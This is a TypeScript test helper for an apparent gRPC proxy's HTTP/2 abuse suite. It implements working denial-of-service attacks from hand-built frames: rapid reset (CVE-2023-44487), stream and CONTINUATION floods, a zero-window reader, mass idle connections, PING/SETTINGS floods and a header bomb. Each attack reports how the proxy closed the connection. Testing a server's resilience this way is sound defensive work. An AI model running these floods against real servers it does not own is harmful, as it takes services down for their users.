/**
 * The attacks of the HTTP/2 abuse suite (issue 18), each a short burst of hand-made frames on a
 * connection of its own: a raw socket ({@link RawAttacker}) where `node:http2` would refuse or
 * pace the frames, a `node:http2` session where it is the simplest client (the zero-window
 * reader). Each returns what the attacker saw: how much it sent and whether and how the proxy
 * closed its connection.
 */
import * as http2 from 'node:http2';
import { setImmediate as nextTurn } from 'node:timers/promises';
import {
  FrameFlag,
  FrameType,
  encodeFrame,
  grpcRequestHeaders,
  probeService,
  requestHeadersFrame,
} from '../../src';
import { encodeMessage } from '@grpc-proxy/codec';
import { RawAttacker, type AttackOutcome } from './abuse-raw-attacker';

export type { AttackOutcome } from './abuse-raw-attacker';

const CONTINUATION = 0x9;

const HANG = probeService.Hang.path;

function rstStream(streamId: number): Buffer {
  const code = Buffer.alloc(4);
  code.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
  return encodeFrame(FrameType.RST_STREAM, 0, streamId, code);
}

/** Writes batches of frames until `done`, the connection closes, or `durationMs` passes. */
async function flood(
  attacker: RawAttacker,
  durationMs: number,
  batch: (index: number) => Buffer[] | undefined,
): Promise<number> {
  const until = Date.now() + durationMs;
  let sent = 0;
  for (let index = 0; Date.now() < until; index++) {
    const frames = batch(index);
    if (frames === undefined || !attacker.write(...frames)) break;
    sent += frames.length;
    // One turn of the event loop between writes: the test's other clients go on meanwhile.
    await nextTurn();
  }
  return sent;
}

/**
 * Rapid reset (CVE-2023-44487): HEADERS opening a never-answered call and its RST_STREAM
 * (CANCEL), 50 pairs a write, for `durationMs` or until the proxy closes the connection.
 */
export async function rapidReset(address: string, durationMs: number): Promise<AttackOutcome> {
  const attacker = await RawAttacker.open(address);
  const startedAt = Date.now();
  let streamId = 1;
  const frames = await flood(attacker, durationMs, () =>
    Array.from({ length: 50 }, () => {
      const id = streamId;
      streamId += 2;
      return Buffer.concat([requestHeadersFrame(id, HANG, [['te', 'trailers']]), rstStream(id)]);
    }),
  );
  await attacker.waitClosed(500);
  attacker.destroy();
  return attacker.outcome(frames, startedAt);
}

/** `count` never-ending calls on one connection (HEADERS only, 500 a write), never reset. */
export async function streamFlood(
  address: string,
  count: number,
  durationMs: number,
): Promise<AttackOutcome> {
  const attacker = await RawAttacker.open(address);
  const startedAt = Date.now();
  let streamId = 1;
  const sent = await flood(attacker, durationMs, () => {
    const left = count - (streamId - 1) / 2;
    if (left <= 0) return undefined;
    return Array.from({ length: Math.min(500, left) }, () => {
      const id = streamId;
      streamId += 2;
      return requestHeadersFrame(id, HANG, [['te', 'trailers']]);
    });
  });
  // What the proxy does with the streams it holds: let it act for the rest of the attack.
  await attacker.waitClosed(Math.max(0, startedAt + durationMs - Date.now()));
  attacker.destroy();
  return attacker.outcome(sent, startedAt);
}

/** What the zero-window reader saw of its streams. */
export interface ZeroWindowOutcome extends AttackOutcome {
  /** Streams the proxy reset (RST_STREAM CANCEL) or refused (REFUSED_STREAM). */
  reset: number;
  refused: number;
  /** Streams answered at once with an error status (the grpc-js engine's refusal). */
  failed: number;
}

/**
 * A zero-window reader: `streams` calls of `Flood`, each asking for `replyBytes`, on a session
 * announcing a stream window of 0 and never reading, held for `durationMs`.
 */
export async function zeroWindowReader(
  address: string,
  streams: number,
  replyBytes: number,
  durationMs: number,
): Promise<ZeroWindowOutcome> {
  const session = http2.connect(`http://${address}`, { settings: { initialWindowSize: 0 } });
  session.on('error', () => undefined);
  const startedAt = Date.now();
  const request = encodeMessage(
    Buffer.from(JSON.stringify({ totalBytes: replyBytes, chunkBytes: 16 * 1024 })),
  );
  const codes: number[] = [];
  let failed = 0;
  for (let i = 0; i < streams && !session.destroyed; i++) {
    const stream = session.request(grpcRequestHeaders(probeService.Flood.path));
    stream.on('error', () => undefined);
    stream.on('close', () => codes.push(stream.rstCode ?? 0));
    // A trailers-only answer: the status is in the response headers (not flow-controlled).
    stream.on('response', (headers) => {
      const code = headers['grpc-status'];
      if (code !== undefined && code !== '0') failed++;
    });
    stream.end(request);
  }
  await new Promise((resolve) => setTimeout(resolve, durationMs));
  const closedAt = session.destroyed || session.closed ? Date.now() : undefined;
  session.destroy();
  return {
    sent: streams,
    ...(closedAt !== undefined && { closedAfterMs: closedAt - startedAt }),
    reset: codes.filter((code) => code === http2.constants.NGHTTP2_CANCEL).length,
    refused: codes.filter((code) => code === http2.constants.NGHTTP2_REFUSED_STREAM).length,
    failed,
  };
}

/** What the idle connections saw. */
export interface IdleOutcome {
  /** Connections opened (each with the preface, SETTINGS and its ACK). */
  opened: number;
  /** Connections the proxy closed within `holdMs`. */
  closed: number;
}

/** `count` connections without a stream, held until the proxy closes them or `holdMs` passes. */
export async function idleConnections(
  address: string,
  count: number,
  holdMs: number,
  whileOpen: () => void | Promise<void> = () => undefined,
): Promise<IdleOutcome> {
  const attackers: RawAttacker[] = [];
  for (let i = 0; i < count; i += 100) {
    const batch = Math.min(100, count - i);
    attackers.push(
      ...(await Promise.all(Array.from({ length: batch }, () => RawAttacker.open(address)))),
    );
  }
  await whileOpen();
  const closed = await Promise.all(attackers.map((attacker) => attacker.waitClosed(holdMs)));
  for (const attacker of attackers) attacker.destroy();
  return { opened: attackers.length, closed: closed.filter(Boolean).length };
}

/** A HEADERS frame without END_HEADERS, then CONTINUATION frames that never end the block. */
export async function continuationFlood(
  address: string,
  durationMs: number,
): Promise<AttackOutcome> {
  const attacker = await RawAttacker.open(address);
  const startedAt = Date.now();
  attacker.write(requestHeadersFrame(1, HANG, [], 0));
  // Each CONTINUATION carries one more literal header field (name "x-c", a 16-byte value).
  const field = Buffer.concat([Buffer.from([0x00, 3]), Buffer.from('x-c'), Buffer.from([16])]);
  const payload = Buffer.concat([field, Buffer.alloc(16, 0x61)]);
  const frames = await flood(attacker, durationMs, () =>
    Array.from({ length: 100 }, () => encodeFrame(CONTINUATION, 0, 1, payload)),
  );
  await attacker.waitClosed(500);
  attacker.destroy();
  return attacker.outcome(frames, startedAt);
}

/** PING frames (or empty SETTINGS) as fast as the socket takes them, never reading the ACKs. */
export async function controlFlood(
  address: string,
  type: 'PING' | 'SETTINGS',
  durationMs: number,
): Promise<AttackOutcome> {
  const attacker = await RawAttacker.open(address, false);
  const startedAt = Date.now();
  const frame =
    type === 'PING'
      ? encodeFrame(FrameType.PING, 0, 0, Buffer.alloc(8))
      : encodeFrame(FrameType.SETTINGS, 0, 0, Buffer.alloc(0));
  const frames = await flood(attacker, durationMs, () => Array.from({ length: 1000 }, () => frame));
  await attacker.waitClosed(500);
  attacker.destroy();
  return attacker.outcome(frames, startedAt);
}

/** One request whose header block carries a 1 MiB value, in 16 KiB CONTINUATION frames. */
export async function headerBomb(address: string, bytes: number): Promise<AttackOutcome> {
  const attacker = await RawAttacker.open(address);
  const startedAt = Date.now();
  const value = Buffer.alloc(bytes, 0x61);
  // A literal field "x-bomb" whose value length is an HPACK integer on a 7-bit prefix.
  const length: number[] = [0x7f];
  for (let rest = bytes - 0x7f; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) {
      length.push(rest);
      break;
    }
    length.push((rest % 128) + 128);
  }
  const block = Buffer.concat([
    Buffer.from([0x00, 6]),
    Buffer.from('x-bomb'),
    Buffer.from(length),
    value,
  ]);
  const chunk = 16 * 1024;
  let frames = 1;
  attacker.write(requestHeadersFrame(1, HANG, [], 0));
  for (let offset = 0; offset < block.length && !attacker.isClosed; offset += chunk) {
    const last = offset + chunk >= block.length;
    const flags = last ? FrameFlag.END_HEADERS : 0;
    attacker.write(encodeFrame(CONTINUATION, flags, 1, block.subarray(offset, offset + chunk)));
    frames++;
    await nextTurn();
  }
  await attacker.waitClosed(1000);
  attacker.destroy();
  return attacker.outcome(frames, startedAt);
}
